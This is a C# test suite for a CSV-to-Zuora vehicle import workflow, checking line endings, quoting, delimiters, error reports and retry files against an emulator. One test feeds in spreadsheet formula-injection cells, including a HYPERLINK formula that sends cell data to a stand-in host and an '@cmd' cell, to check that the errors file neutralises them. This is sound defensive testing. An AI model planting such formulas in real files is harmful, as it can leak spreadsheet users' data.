using System.Globalization;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using ZuoraJobFlows.Workflow.Results;
using ZuoraJobFlows.Zuora;

namespace ZuoraJobFlows.Workflow.Tests.EndToEnd;

/// <summary>The shared case files that Zuora gets to see, through the real client and the emulator.</summary>
public sealed class CsvCaseAcceptedTests
{
    private const string Header = "make__c,model__c,year__c,vin__c,color__c,msrp__c,in_service_on__c,electric__c";

    [Fact]
    public async Task Import_BomAndCrlf_CreatesBothRecordsWithCleanFirstColumn()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "bom-crlf.csv");

        Assert.Equal(RunStatus.Completed, run.Result.Status);
        Assert.Equal(1, host.Emulator.JobsCreated);
        var records = host.Emulator.Records("vehicle");
        Assert.Equal(2, records.Count);
        Assert.All(records, r => Assert.True(r.ContainsKey("make__c")));
        Assert.Equal(["Kia", "Volvo"], records.Select(r => r["make__c"].ToString()).Order());
        Assert.Equal(2, run.Summary.GetProperty("recordsProcessed").GetInt64());
        Assert.Equal(JsonValueKindNull, run.Summary.GetProperty("reports").GetProperty("errors").ValueKind);
    }

    [Fact]
    public async Task Import_LfOnly_CreatesTheRecord()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "lf-only.csv");

        Assert.Equal(RunStatus.Completed, run.Result.Status);
        Assert.Equal(1, host.Emulator.RecordCount("vehicle"));
        Assert.Equal("Enyaq", host.Emulator.Records("vehicle")[0]["model__c"].ToString());
    }

    [Fact]
    public async Task Import_MultilineQuoted_CreatesThreeAndReportsRowFive()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "multiline-quoted.csv");

        Assert.Equal(RunStatus.CompletedWithErrors, run.Result.Status);
        var records = host.Emulator.Records("vehicle");
        Assert.Equal(3, records.Count);
        Assert.Contains(records, r => r["model__c"].ToString() == "Model 3\r\nPerformance");
        Assert.Contains(records, r => r["model__c"].ToString() == "Civic \"Si\"");
        Assert.Contains(records, r => r["model__c"].ToString() == "Transit, long wheelbase");
        Assert.Equal(1, run.Summary.GetProperty("failedRecords").GetInt64());
        var errors = await host.ReadOutputTextAsync(run.Result.ErrorsBlob!);
        var lines = errors.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        Assert.StartsWith("row,code,message," + Header, lines[0]);
        Assert.StartsWith("5,71000020,", lines[1]);
        Assert.EndsWith(",Mazda,MX-5,20x1,JM1NDAL70M0000006,red,28000,2021-05-05,false", lines[1]);
        var retry = await host.ReadOutputTextAsync(run.Result.RetryBlob!);
        Assert.Equal(Header + "\r\nMazda,MX-5,20x1,JM1NDAL70M0000006,red,28000,2021-05-05,false\r\n", retry);
    }

    [Fact]
    public async Task Import_TrailingBlankLines_CreatesOneRecordWithoutErrors()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "trailing-blank-lines.csv");

        Assert.Equal(RunStatus.Completed, run.Result.Status);
        Assert.Equal(1, host.Emulator.RecordCount("vehicle"));
        Assert.Equal(1, run.Summary.GetProperty("input").GetProperty("records").GetInt64());
        Assert.Equal(0, run.Summary.GetProperty("failedRecords").GetInt64());
        Assert.Null(run.Result.ErrorsBlob);
    }

    [Fact]
    public async Task Import_SpacesAroundHeaders_TrimsNamesAndCreatesTheRecord()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "spaces-around-headers.csv");

        Assert.Equal(RunStatus.Completed, run.Result.Status);
        var record = Assert.Single(host.Emulator.Records("vehicle"));
        Assert.Equal("Seat", record["make__c"].ToString());
        Assert.Equal("Leon", record["model__c"].ToString());
    }

    [Fact]
    public async Task Import_FormulaCells_NeutralisesErrorsCsvAndKeepsRetryBytes()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "formula-cells.csv");

        // Rows 3 and 4 hold values Zuora refuses. Row 2 has quotes inside an unquoted field: the chunk quotes it
        // canonically, so the strict emulator accepts it and stores the formula text unchanged.
        Assert.Equal(RunStatus.CompletedWithErrors, run.Result.Status);
        var failed = run.Summary.GetProperty("failedRecords").GetInt64();
        Assert.Equal(2, failed);
        var created = Assert.Single(host.Emulator.Records("vehicle"));
        Assert.Equal("=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"open\")", created["make__c"].ToString());
        var errors = await host.ReadOutputTextAsync(run.Result.ErrorsBlob!);
        var lines = errors.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(failed + 1, lines.Length);
        Assert.Contains(lines, l => l.StartsWith("3,71000020,", StringComparison.Ordinal)
            && l.Contains(",'+SUM(1;1),X2,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("4,71000220,", StringComparison.Ordinal)
            && l.Contains(",'@cmd,X3,", StringComparison.Ordinal));
        Assert.All(SplitCells(errors), cell => Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell[0]),
            $"Cell '{cell}' would run as a formula."));
        var original = File.ReadAllText(Path.Combine(EmulatorWorkflowHost.CasesFolder, "formula-cells.csv"));
        var originalLines = original.Split("\r\n");
        var failedRows = lines.Skip(1).Select(l => int.Parse(l[..l.IndexOf(',')], CultureInfo.InvariantCulture));
        Assert.Equal([3, 4], failedRows);
        var expectedRetry = originalLines[0] + "\r\n"
            + string.Concat(failedRows.Select(row => originalLines[row - 1] + "\r\n"));
        Assert.Equal(Encoding.UTF8.GetBytes(expectedRetry), await host.ReadOutputBytesAsync(run.Result.RetryBlob!));
    }

    [Fact]
    public async Task Import_SemicolonDelimited_DetectsDelimiterAndSendsDecimalCommaUnchanged()
    {
        await using var host = await EmulatorWorkflowHost.StartAsync();

        var run = await CaseRun.RunAsync(host, "semicolon-delimited.csv");

        Assert.Equal(RunStatus.CompletedWithErrors, run.Result.Status);
        var record = Assert.Single(host.Emulator.Records("vehicle"));
        Assert.Equal("Renault", record["make__c"].ToString());
        var errors = await host.ReadOutputTextAsync(run.Result.ErrorsBlob!);
        var lines = errors.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        Assert.StartsWith("3,71000020,", lines[1]);
        Assert.Contains("\"36000,50\"", lines[1]);
        var jobId = run.Summary.GetProperty("jobs")[0].GetProperty("id").GetString()!;
        var zuora = host.Services.GetRequiredService<IZuoraClient>();
        var zuoraErrors = await zuora.GetJobErrorsAsync(jobId).ToListAsync();
        var error = Assert.Single(zuoraErrors);
        Assert.Contains("36000,50", error.Message + error.Record?.GetRawText());
        var retry = await host.ReadOutputBytesAsync(run.Result.RetryBlob!);
        var original = File.ReadAllBytes(Path.Combine(EmulatorWorkflowHost.CasesFolder, "semicolon-delimited.csv"));
        var text = Encoding.UTF8.GetString(original);
        var originalLines = text.Split("\r\n");
        Assert.Equal(Encoding.UTF8.GetBytes(originalLines[0] + "\r\n" + originalLines[2] + "\r\n"), retry);
    }

    private const System.Text.Json.JsonValueKind JsonValueKindNull = System.Text.Json.JsonValueKind.Null;

    private static IEnumerable<string> SplitCells(string csv) =>
        csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries)
            .SelectMany(line => line.Split(','))
            .Select(cell => cell.Trim('"'));
}
